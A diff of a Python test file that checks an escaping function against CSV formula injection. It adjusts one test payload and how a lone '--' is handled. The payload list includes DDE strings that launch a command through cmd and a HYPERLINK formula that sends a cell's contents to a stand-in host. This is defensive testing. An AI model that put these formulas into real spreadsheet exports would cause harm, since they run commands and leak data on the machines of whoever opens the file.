@@ -302,7 +302,7 @@ def test_csv_and_json_round_trip_hostile_names():
 # OWASP's CSV injection examples (its page and its test payloads): each would run as a formula in
 # Excel, LibreOffice Calc or Google Sheets if a cell started with it
 FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            '=HYPERLINK("http://x?"&A1,"Error")', "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "-", "@"]
+            '=HYPERLINK("http://x?"&A1,"Error")', "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "-x1", "@"]
 
 
 def test_csv_formula_injection_names_start_with_a_single_quote(tmp_path):
@@ -320,13 +320,13 @@ def test_csv_formula_injection_names_start_with_a_single_quote(tmp_path):
     assert starts[-1] == "-1x-1"  # the 3x3 conv with padding 1: a start of -1 per axis, kept as a number
     for row in rows:
         assert not any(cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\0") for cell in row if cell)
-        assert not any(cell.startswith("-") and not re.fullmatch(r"-\d+(x-?\d+)*", cell) for cell in row)
+        assert not any(cell.startswith("-") and not re.fullmatch(r"--|-\d+(x-?\d+)*", cell) for cell in row)
 
 
 def test_csv_cell_escapes_formulas_only():
     assert escape.csv_cell("=1+1") == "'=1+1" and escape.csv_cell("@x") == "'@x"
     assert escape.csv_cell("-3x-3") == "-3x-3" and escape.csv_cell("-1.5") == "-1.5" and escape.csv_cell(-7) == -7
-    assert escape.csv_cell("-3x-3+cmd") == "'-3x-3+cmd"
+    assert escape.csv_cell("-3x-3+cmd") == "'-3x-3+cmd" and escape.csv_cell("--") == "--"
     assert escape.csv_cell("a=1") == "a=1" and escape.csv_cell("'=1") == "'=1" and escape.csv_cell("") == ""
 
 def test_explain_and_solve_show_hostile_names_on_one_line():
